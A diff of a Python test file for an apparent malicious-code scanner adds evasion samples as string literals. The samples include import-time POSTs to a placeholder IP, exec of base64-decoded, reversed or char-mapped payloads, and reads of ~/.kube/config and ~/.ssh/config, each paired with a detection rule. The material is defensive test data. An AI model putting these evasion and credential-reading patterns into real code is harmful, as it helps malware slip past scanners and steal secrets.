@@ -436,6 +436,24 @@ def test_the_projects_own_environment_has_no_high_findings() -> None:
             "code-exec-decoded",
         ),
         (f"P = {P64[::-1]!r}\nimport base64\nexec(base64.b64decode(P[:: -1]))\n", "code-exec-decoded"),
+        (
+            "import socket\ngetattr(socket, 'create_connection')(('203.0.113.9', 80))\n",
+            "code-network-at-import",
+        ),
+        ("__import__('requests').post('http://203.0.113.9/c', data=b'x')\n", "code-network-at-import"),
+        ("import requests\n(requests\n .get)('http://203.0.113.9/c')\n", "code-network-at-import"),
+        (
+            f"import builtins as re, base64\nexec(re.compile(base64.b64decode('{P64}'), 'm', 'exec'))\n",
+            "code-exec-decoded",
+        ),
+        (
+            "import os\nH = os.path.expanduser('~')\n"
+            "for p in (os.path.join(H, '.kube', 'config'), f'{H}/.ssh{os.sep}config'):\n"
+            "    open(p).read()\n",
+            "code-credential-read",
+        ),
+        (f"D = {list(b'print(1); print(2); print(3)')}\nexec(''.join(map(chr, D)))\n", "code-exec-decoded"),
+        (f"P = {P64[::-1]!r}\nexec(P[: :-1])\n", "code-exec-decoded"),
     ],
     ids=[
         "os-alias",
@@ -445,6 +463,13 @@ def test_the_projects_own_environment_has_no_high_findings() -> None:
         "atomic-wallet",
         "bytearray-xor",
         "spaced-reverse",
+        "getattr-socket",
+        "dunder-import-requests",
+        "bracketed-attribute",
+        "builtins-named-re",
+        "joined-credential-paths",
+        "map-chr",
+        "spaced-colons",
     ],
 )
 def test_the_parse_prefilter_does_not_let_evasions_through(tmp_path: Path, source: str, rule: str) -> None:
@@ -461,19 +486,23 @@ def _findings_both_ways(data: bytes) -> tuple[list[Finding], list[Finding]]:
     return found[0], found[1]
 
 
-@pytest.mark.slow
-def test_skipping_quiet_function_bodies_changes_no_finding() -> None:
-    """Real code: every stdlib and site-packages file the prefilter sends to a full analysis."""
-    roots = [Path(sysconfig.get_paths()["stdlib"]), Path(sysconfig.get_paths()["purelib"])]
-    checked = 0
-    for path in sorted(p for root in roots for p in root.rglob("*.py"))[::3]:
-        data = path.read_bytes()
-        if code.parse_depth(data) is not code.Depth.FULL or len(data) > code.MAX_PARSE_BYTES:
-            continue
-        full, skipped = _findings_both_ways(data)
-        assert skipped == full, path
-        checked += 1
-    assert checked > 300
+@pytest.mark.parametrize(
+    "alias",
+    [
+        "run = exec",
+        "from pickle import loads as run",
+        "from builtins import exec as run",
+        "import builtins as b\nrun = b.exec",
+    ],
+)
+def test_a_function_body_calling_a_renamed_sink_is_walked(alias: str) -> None:
+    """`run(P)` names no word the prefilter knows; the new name for the sink does."""
+    source = (
+        f"import base64\n{alias}\nP = base64.b64decode('{P64}')\nclass K:\n    def m(self):\n        run(P)\n"
+    )
+    full, skipped = _findings_both_ways(source.encode())
+    assert [f.rule for f in full] == ["code-exec-decoded"]
+    assert skipped == full
 
 
 def test_skipping_quiet_function_bodies_keeps_what_flows_across_them() -> None:
